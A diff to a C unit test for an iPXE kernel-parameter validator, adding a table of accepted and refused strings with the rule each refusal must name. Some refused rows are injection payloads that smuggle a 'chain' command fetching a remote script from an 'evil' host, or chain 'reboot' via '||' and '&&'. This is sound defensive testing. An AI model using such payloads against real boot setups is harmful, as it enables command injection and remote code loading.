@@ -330,48 +330,95 @@ static void test_urls(void **state)
 
 /* ---- valid_ipxe_params -------------------------------------------------- */
 
-static const struct str_case params_cases[] = {
-	{"", 0},
-	{"quiet", 0},
-	{"console=ttyS0,115200n8 quiet", 0},
-	{"root=live:http://10.0.0.1:8080/files/images/r.squashfs rd.live.overlay.overlayfs=1", 0},
-	{"url=http://h/a?b=1&c=2", 0}, /* '&' inside a URL */
-	{"a&b", 0},
-	{"&", 0},
-	{"a||b", 0}, /* an operator only when it stands as a word */
-	{"a&&b", 0},
-	{"x=||", 0},
-	{"||x", 0},
-	{"&&x", 0},
-	{"|||", 0},
-	{"&&&", 0},
-	{"|", 0},
-	{"  quiet  ", 0},
-	{"a=\"b c\" d='e'", 0},
-	{"~!@#%^*()_+-={}[]:;<>,.?/\\`", 0},
-	/* line breakers and control characters */
-	{"a\nb", -EINVAL},
-	{"quiet\n", -EINVAL},
-	{"a\rb", -EINVAL},
-	{"a\tb", -EINVAL},
-	{"\x01", -EINVAL},
-	{"a\x1b[0m", -EINVAL},
-	{"a\x7f", -EINVAL},
-	{"caf\xc3\xa9", -EINVAL},
-	/* iPXE expansion */
-	{"$", -EINVAL},
-	{"a$b", -EINVAL},
-	{"root=${rootfs}", -EINVAL},
-	{"${x}", -EINVAL},
-	{"x=${net0/mac}", -EINVAL},
-	/* iPXE operators as words */
-	{"||", -EINVAL},
-	{"&&", -EINVAL},
-	{"quiet || reboot", -EINVAL},
-	{"quiet && reboot", -EINVAL},
-	{"quiet ||", -EINVAL},
-	{"|| quiet", -EINVAL},
-	{"a  &&  b", -EINVAL},
+/*
+ * One row per iPXE parsing rule (lib/valid.c has the table): each refused
+ * row names a piece of the reason the API answers, so a row that fails for
+ * the wrong rule fails the test.
+ */
+struct params_case {
+	const char *s;
+	const char *why_has; /* NULL: accepted */
+};
+
+static const struct params_case params_cases[] = {
+	/* Kernel parameters people use. */
+	{"", NULL},
+	{"quiet", NULL},
+	{"console=ttyS0,115200n8 quiet", NULL},
+	{"root=live:http://10.0.0.1:8080/files/images/r.squashfs rd.live.overlay.overlayfs=1",
+	 NULL},
+	{"ip=dhcp rd.neednet=1", NULL},
+	{"a=b=c", NULL},
+	{"x=%41%20 y=100%", NULL},
+	{"modprobe.blacklist=a,b,c", NULL},
+	{"-- init-arg", NULL},                   /* options are read only before the URL */
+	{"--name=x -q", NULL},                   /* likewise */
+	{"url=http://h/a?b=1&c=2", NULL},        /* '&' inside a word */
+	{"ds=nocloud-net;s=http://h/ci/", NULL}, /* ';' inside a word */
+	{"a;", NULL},
+	{";a", NULL},
+	{";;", NULL},
+	{"a#b", NULL}, /* '#' starts a comment only at a word's start */
+	{"a&b", NULL},
+	{"&", NULL},
+	{"a||b", NULL}, /* an operator only when it stands as a word */
+	{"a&&b", NULL},
+	{"x=||", NULL},
+	{"||x", NULL},
+	{"&&x", NULL},
+	{"|||", NULL},
+	{"&&&", NULL},
+	{"|", NULL},
+	{"  quiet  ", NULL},
+	{"~!@%^*()_+-={}[]:<>,.?/`", NULL},
+	{"{x}", NULL},
+	/* Rule: control and non-ASCII bytes (a newline ends the iPXE line). */
+	{"a\nb", "control"},
+	{"quiet\n", "control"},
+	{"quiet\nchain http://evil/x.ipxe", "control"},
+	{"a\rb", "control"},
+	{"a\tb", "control"},
+	{"a\vb", "control"},
+	{"a\fb", "control"},
+	{"\x01", "control"},
+	{"a\x1b[0m", "control"},
+	{"a\x7f", "control"},
+	{"caf\xc3\xa9", "control"},
+	/* Rule: ';' as a word separates commands. */
+	{";", "';'"},
+	{"a ; chain http://10.0.0.9/evil.ipxe", "';'"},
+	{"quiet ;", "';'"},
+	{"; quiet", "';'"},
+	/* Rule: '||' as a word. */
+	{"||", "'||'"},
+	{"quiet || reboot", "'||'"},
+	{"quiet ||", "'||'"},
+	{"|| quiet", "'||'"},
+	/* Rule: '&&' as a word. */
+	{"&&", "'&&'"},
+	{"quiet && reboot", "'&&'"},
+	{"a  &&  b", "'&&'"},
+	/* Rule: '#' at a word's start begins a comment. */
+	{"#", "'#'"},
+	{"quiet #", "'#'"},
+	{"quiet #drop-BOOTIF", "'#'"},
+	{"#!ipxe", "'#'"},
+	{"a ##", "'#'"},
+	/* Rule: '$' (settings expansion). */
+	{"$", "'$'"},
+	{"a$b", "'$'"},
+	{"root=${rootfs}", "'$'"},
+	{"${x}", "'$'"},
+	{"x=${net0/mac}", "'$'"},
+	/* Rule: '\' (line continuation; an escape to the kernel and systemd). */
+	{"\\", "'\\'"},
+	{"quiet\\", "'\\'"},
+	{"a\\ b", "'\\'"},
+	/* Rule: quotes (no meaning to iPXE; an unclosed one swallows BOOTIF=). */
+	{"a=\"b", "quotes"},
+	{"a=\"b c\"", "quotes"},
+	{"d='e'", "quotes"},
+	{"\"a ; b\"", "';'"}, /* quoting does not hide a separator from iPXE */
 };
 
 static void test_ipxe_params(void **state)
@@ -380,14 +427,20 @@ static void test_ipxe_params(void **state)
 
 	(void)state;
 	for (size_t i = 0; i < NELEM(params_cases); i++) {
+		const struct params_case *c = &params_cases[i];
 		const char *why = NULL;
-		int rc = valid_ipxe_params(params_cases[i].s, &why);
+		int rc = valid_ipxe_params(c->s, &why);
 
-		if (rc != params_cases[i].rc)
-			fail_msg("params case %zu \"%s\": rc %d, want %d", i, params_cases[i].s, rc,
-				 params_cases[i].rc);
-		if (rc != 0 && (why == NULL || why[0] == '\0'))
-			fail_msg("params case %zu: refused without a reason", i);
+		if (c->why_has == NULL && rc != 0)
+			fail_msg("params case %zu \"%s\": refused (%s), want accepted", i, c->s,
+				 why ? why : "no reason");
+		if (c->why_has != NULL && rc != -EINVAL)
+			fail_msg("params case %zu \"%s\": accepted, want refused for %s", i, c->s,
+				 c->why_has);
+		if (c->why_has != NULL && (why == NULL || strstr(why, c->why_has) == NULL))
+			fail_msg(
+				"params case %zu \"%s\": refused for \"%s\", want a reason naming %s",
+				i, c->s, why ? why : "", c->why_has);
 	}
 	/* 2048 characters are the most. */
 	s = malloc(2050);
